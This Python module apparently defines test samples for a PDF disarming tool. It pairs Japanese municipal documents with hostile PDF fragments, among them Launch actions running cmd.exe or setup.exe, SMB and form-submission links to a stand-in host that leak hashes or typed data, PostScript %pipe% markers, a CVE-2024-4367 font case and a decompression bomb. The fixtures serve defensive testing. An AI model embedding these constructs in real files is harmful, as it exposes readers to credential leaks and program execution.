"""PDF samples: everyday Japanese documents, and one for each thing that hides in a PDF."""

from __future__ import annotations

from samples.build import _pdf_attached as attached
from samples.build import _pdf_benign as benign
from samples.build import _pdf_drawings as drawings
from samples.build import _pdf_everything as everything
from samples.build import _pdf_hostile as hostile
from samples.build import _pdf_layers as layers
from samples.build import _pdf_misplaced as misplaced
from samples.build import _pdf_qr as qr
from samples.build import _pdf_vertical as vertical
from samples.build._pdf_encryption import encrypted_by_aes_256
from samples.build._pdf_hostile import SCRIPT, Build, annotation, catalog, embedded, link_with, page
from samples.sample import Sample

_SCRIPT = SCRIPT.encode()
_SHARE = b"192.0.2.7"


def _hostile(name: str, feature: str, about: str, build: Build, *gone: bytes, more: tuple[str, ...] = ()) -> Sample:
    return Sample(
        path=f"hostile/pdf/{name}.pdf",
        kind="hostile",
        engine="pdf",
        about=about,
        build=build,
        features=(f"pdf.{feature}", *more),
        keeps=("Kept text",),
        gone=gone,
    )


_SCREEN = "/Subtype/Screen/A<</S/Rendition/OP 0/R<</Type/Rendition/S/MR/C<</S/MCD/D(//192.0.2.7/a.avi)>>>>>>"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        "benign/pdf/防災訓練通知.pdf",
        "benign",
        "pdf",
        "notice with outline, links, tags, layer, pictures",
        benign.notice,
        verdict="disarmed",
        keeps=benign.LINES,
    ),
    Sample(
        "benign/pdf/住民票申請書.pdf", "benign", "pdf", "form to fill in", benign.form, verdict="disarmed", keeps=benign.FORM_LABELS
    ),
    Sample(
        "benign/pdf/スキャン文書.pdf",
        "benign",
        "pdf",
        "scanned page with invisible text",
        benign.scan,
        verdict="disarmed",
        keeps=(benign.TITLE,),
    ),
    Sample(
        "benign/pdf/縦書き条例.pdf",
        "benign",
        "pdf",
        "ordinance in vertical writing, two tiers, with ruby",
        vertical.ordinance,
        verdict="disarmed",
        keeps=(*vertical.UPPER, *vertical.LOWER, vertical.RUBY),
    ),
    Sample(
        "benign/pdf/縦書き届出書.pdf",
        "benign",
        "pdf",
        "vertical writing in a font that is not embedded",
        vertical.old_form,
        verdict="clean",
        keeps=vertical.OLD_LINES,
    ),
    Sample(
        "benign/pdf/転入届.pdf",
        "benign",
        "pdf",
        "fields of every kind, links, outline, tags, page labels, layers",
        everything.notification,
        features=("pdf.author", "pdf.uri", "pdf.hidden_layer"),
        keeps=everything.LINES[1:],
    ),
    Sample(
        "benign/pdf/下水道台帳図.pdf",
        "benign",
        "pdf",
        "map with a layer that is off and one that is only printed",
        layers.sewer_map,
        features=("pdf.hidden_layer",),
        keeps=layers.MAP_LINES[:2],
    ),
    Sample(
        "benign/pdf/送付状（添付あり）.pdf",
        "benign",
        "pdf",
        "letter with attachments: a table, a photograph, two notes of one name",
        attached.covering_letter,
        features=("pdf.embedded_file", "pdf.file_attachment"),
        keeps=attached.LINES,
    ),
    Sample(
        "benign/pdf/図版と写真.pdf",
        "benign",
        "pdf",
        "pictures of 1 to 16 bits in seven colour spaces, masks, a pattern, a shading, blending, drawn letters",
        drawings.figures,
        verdict="clean",
        keeps=("Kept text",),
    ),
    _hostile("javascript", "javascript", "document script in the name tree", hostile.javascript, _SCRIPT),
    _hostile("open_action", "open_action", "script on opening", hostile.open_action, _SCRIPT, more=("pdf.javascript",)),
    _hostile("hidden_script", "javascript", "names in #xx, at the end of a chain of 30, in a loop", hostile.hidden_script),
    _hostile(
        "additional_actions",
        "additional_actions",
        "AA of catalog, page and field",
        hostile.additional_actions,
        _SCRIPT,
        more=("pdf.javascript", "pdf.form_script"),
    ),
    _hostile(
        "launch", "launch", "starts a program", link_with("<</S/Launch/F(setup.exe)/Win<</F(setup.exe)/P(/q)>>>>"), b"setup.exe"
    ),
    Sample(
        "hostile/pdf/launch_command.pdf",
        "hostile",
        "pdf",
        "starts a command line, which the signatures know",
        link_with("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        verdict="blocked",
    ),
    _hostile(
        "goto_remote", "goto_remote", "leaks a hash over SMB", link_with("<</S/GoToR/F(//192.0.2.7/share/x.pdf)/D[0/Fit]>>"), _SHARE
    ),
    _hostile(
        "goto_embedded",
        "goto_remote",
        "opens an embedded file",
        link_with("<</S/GoToE/T<</R/C/N(payload.pdf)>>/D[0/Fit]>>"),
        b"payload.pdf",
    ),
    _hostile("submit_form", "submit_form", "sends what was typed", link_with("<</S/SubmitForm/F(http://192.0.2.7/c)>>"), _SHARE),
    _hostile("import_data", "import_data", "reads a file", link_with("<</S/ImportData/F(//192.0.2.7/share/x.fdf)>>"), _SHARE),
    _hostile("reset_form", "reset_form", "empties the form", link_with("<</S/ResetForm>>")),
    _hostile("named_action", "named_action", "menu command", link_with("<</S/Named/N/Print>>")),
    _hostile("hide", "hide", "hides a field", link_with("<</S/Hide/T(f)/H true>>")),
    _hostile(
        "thread", "thread", "jumps to an article of another file", link_with("<</S/Thread/F(//192.0.2.7/x.pdf)/D 0>>"), _SHARE
    ),
    _hostile("transition", "transition", "page transition", page("/Trans<</Type/Trans/S/Wipe/D 5>>/Dur 3")),
    _hostile("layers_action", "optional_content_action", "switches layers", link_with("<</S/SetOCGState/State[/Toggle]>>")),
    _hostile("rendition", "rendition", "media from a share", annotation(_SCREEN), _SHARE),
    _hostile("sound", "sound", "sound action", link_with("<</S/Sound/Sound null/Volume 1>>")),
    _hostile("movie", "movie", "movie annotation", annotation("/Subtype/Movie/Movie<</F(//192.0.2.7/a.avi)>>"), _SHARE),
    _hostile(
        "rich_media",
        "rich_media",
        "Flash",
        annotation("/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf) @spec]>>>>", embedded),
        b"a.swf",
    ),
    _hostile("three_d", "3d", "3D model with a script", annotation(f"/Subtype/3D/3DD<</Type/3D/OnInstantiate({SCRIPT[:3]})>>")),
    _hostile(
        "unknown_action", "unknown_action", "an action of no standard", link_with("<</S/EvilAction/X(//192.0.2.7/x)>>"), _SHARE
    ),
    _hostile(
        "unknown_annotation",
        "unknown_annotation",
        "an annotation of no standard",
        annotation("/Subtype/Evil/X(//192.0.2.7/x)"),
        _SHARE,
    ),
    _hostile(
        "uri_schemes",
        "uri_scheme",
        "addresses that are not of the web",
        hostile.uri_schemes,
        b"javascript:",
        b"ms-word",
        b"calc.exe",
        more=("pdf.uri",),
    ),
    _hostile("uri_base", "web_capture", "base address", catalog("/URI<</Base(http://192.0.2.7/)>>"), _SHARE),
    _hostile(
        "embedded_file",
        "embedded_file",
        "attached program",
        catalog("/Names<</EmbeddedFiles<</Names[(payload) @spec]>>>>", embedded),
        b"payload",
    ),
    _hostile(
        "file_attachment",
        "file_attachment",
        "program pinned to a page",
        annotation("/Subtype/FileAttachment/FS @spec", embedded),
        b"payload",
    ),
    _hostile(
        "collection",
        "collection",
        "portfolio with a program in it",
        attached.portfolio,
        b"SECRET-PROGRAM",
        b"SECRET-TABLE",
        more=("pdf.embedded_file",),
    ),
    _hostile("embedded_old_name", "embedded_file", "program under a name in cp932", attached.old_name, b"SECRET-PROGRAM"),
    _hostile(
        "associated_file",
        "embedded_file",
        "files associated with document and page (ZUGFeRD), with variants and related files",
        attached.associated,
        b"SECRET-INVOICE",
        b"SECRET-OTHER",
        b"SECRET-RELATED",
    ),
    _hostile(
        "embedded_nothing",
        "embedded_file",
        "name tree that loops, entries that are no files, data that does not unpack",
        attached.no_files,
        b"SECRET-JPEG",
        b"SECRET-PACKED",
        b"192.0.2.7",
    ),
    Sample(
        "hostile/pdf/qr_codes.pdf",
        "hostile",
        "pdf",
        "QR codes that lead to a payment page (a policy may report or cover them)",
        qr.codes,
        verdict="clean",
        keeps=("Kept text",),
    ),
    Sample(
        "hostile/pdf/hidden_layers.pdf",
        "hostile",
        "pdf",
        "words on a layer that is off, in every place (a policy may remove them)",
        layers.hidden_everywhere,
        features=("pdf.hidden_layer",),
        verdict="clean",
        keeps=("Kept text", "Kept inner", "Shown-on"),
    ),
    _hostile("xfa", "xfa", "XFA form with a script", hostile.xfa, b"xdp", _SCRIPT),
    _hostile(
        "hidden_template",
        "hidden_template",
        "page outside the page tree",
        hostile.hidden_template,
        _SCRIPT,
        more=("pdf.javascript",),
    ),
    _hostile("reference_xobject", "reference_xobject", "page content of a share", hostile.reference_xobject, _SHARE),
    _hostile("opi", "opi", "image of a share", hostile.opi, _SHARE),
    _hostile("postscript_xobject", "postscript_xobject", "PostScript for the printer", hostile.postscript_xobject, b"%pipe%"),
    _hostile(
        "postscript_key",
        "postscript_xobject",
        "PostScript beside a form",
        hostile.postscript_key,
        b"%pipe%",
    ),
    _hostile("external_stream", "external_stream", "drawing operators of a share", hostile.external_stream, _SHARE),
    _hostile("alternate_image", "alternate_image", "another picture when printed", hostile.alternate_image),
    _hostile("image_tail", "trailing_data", "data behind a picture's last row", hostile.image_with_tail, b"TAIL-OF-IMAGE"),
    _hostile("thumbnail", "thumbnail", "thumbnail of an older page", hostile.thumbnail),
    _hostile(
        "metadata", "metadata", "author and program", hostile.metadata, b"SECRET-PRODUCER", b"SECRET-XMP", more=("pdf.author",)
    ),
    _hostile(
        "private_data",
        "private_data",
        "private data of a program",
        page("/PieceInfo<</Adobe<</Private(SECRET-PIECE)>>>>"),
        b"SECRET-PIECE",
    ),
    _hostile("unknown_key", "unknown_key", "keys of no standard", page("/Evil<</X(SECRET-KEY)>>"), b"SECRET-KEY"),
    _hostile("signature", "signature", "signed field", hostile.signature, b"adbe.pkcs7"),
    _hostile("earlier_revision", "earlier_revision", "text of the first save", hostile.earlier_revision, b"SECRET OF"),
    _hostile(
        "unreferenced",
        "unreferenced_object",
        "script that nothing refers to",
        hostile.unreferenced,
        _SCRIPT,
        more=("pdf.javascript",),
    ),
    _hostile(
        "trailing_data",
        "trailing_data",
        "program behind the end",
        hostile.trailing_data,
        b"SECRET-TAIL",
    ),
    Sample(
        "hostile/pdf/leading_data.pdf",
        "hostile",
        "pdf",
        "script before the header: the system would run it",
        hostile.leading_data,
        verdict="blocked",
    ),
    _hostile("destination_scripts", "javascript", "actions where destinations belong", misplaced.destination_scripts, _SCRIPT),
    _hostile(
        "tag_scripts", "javascript", "tags that look like actions", misplaced.tag_scripts, _SCRIPT, b"/JavaScript", b"/Launch"
    ),
    _hostile("trailer_scripts", "javascript", "actions in trailer, Info and page tree", misplaced.trailer_scripts, _SCRIPT),
    _hostile("field_appearance", "content_operator", "PostScript in DA", misplaced.field_appearance, b"%pipe%"),
    _hostile("giant_function", "damaged", "sampled function without samples", misplaced.giant_function, b"SECRET-SAMPLES"),
    _hostile("short_picture", "image_codec", "a picture of which half is missing", drawings.short_picture),
    _hostile(
        "endless_string",
        "content_operator",
        "drawing behind a string that does not end",
        drawings.endless_string,
        b"SECRET-DRAWING",
    ),
    _hostile("sound_with_look", "sound", "a sound whose icon stays as a picture", drawings.sound_with_look, b"SECRET-SOUND"),
    _hostile("broken_picture", "damaged", "JPEG that is none", misplaced.broken_picture, b"SECRET-JPEG"),
    _hostile("owner_password_aes", "encryption_owner", "owner password only, AES-256", encrypted_by_aes_256),
    _hostile(
        "content_operators",
        "content_operator",
        "unknown operators, unterminated string",
        hostile.content_operators,
        b"evil",
        b"SECRET-OPERAND",
    ),
    _hostile("inline_image", "content_operator", "inline image with impossible size", hostile.inline_image, b"SECRET-INLINE"),
    _hostile("font_matrix", "font_value", "CVE-2024-4367: string in a FontMatrix", hostile.font_matrix, b"alert"),
    _hostile("character_map", "cmap", "PostScript in a character map", hostile.character_map, b"%pipe%", b"SECRET-CMAP"),
    _hostile("colour_profile", "icc_profile", "colour profile that is none", hostile.colour_profile, b"SECRET-ICC"),
    _hostile("jbig2", "image_codec", "JBIG2 picture (CVE-2021-30860 was one)", hostile.jbig2_image),
    _hostile(
        "broken_destination", "broken_destination", "jump to an object that is no page", link_with("<</S/GoTo/D[1 0 R/Fit]>>")
    ),
    _hostile("damaged", "damaged", "cross-reference table missing", hostile.damaged),
    _hostile("owner_password", "encryption_owner", "owner password only", hostile.owner_encrypted),
    Sample(
        "hostile/pdf/user_password.pdf",
        "hostile",
        "pdf",
        "password is himitsu",
        hostile.user_encrypted,
        features=(),
        verdict="review",
    ),
    Sample(
        "hostile/pdf/broken_font.pdf",
        "hostile",
        "pdf",
        "font program that does not parse, not in readers either",
        hostile.broken_font,
        features=("pdf.font_program",),
    ),
    Sample(
        "hostile/pdf/hinted_font.pdf",
        "hostile",
        "pdf",
        "a font with hinting programs, code for the font engine's virtual machine",
        benign.notice,
        features=("pdf.font_hinting",),
        keeps=benign.LINES,
    ),
    _hostile(
        "postscript_function",
        "postscript_function",
        "PostScript outside the calculator's list",
        hostile.postscript_function,
        b"%pipe%",
    ),
    Sample(
        "malformed/pdf/empty_page_tree.pdf",
        "malformed",
        "pdf",
        "no page",
        hostile.empty_page_tree,
        verdict="review",
    ),
    Sample(
        "malformed/pdf/page_loop.pdf",
        "malformed",
        "pdf",
        "a node of the page tree that is its own kid, beside a page",
        hostile.page_loop,
        features=("pdf.damaged",),
    ),
    Sample("malformed/pdf/flate_bomb.pdf", "malformed", "pdf", "two gibibytes of drawing", hostile.flate_bomb, verdict="review"),
)
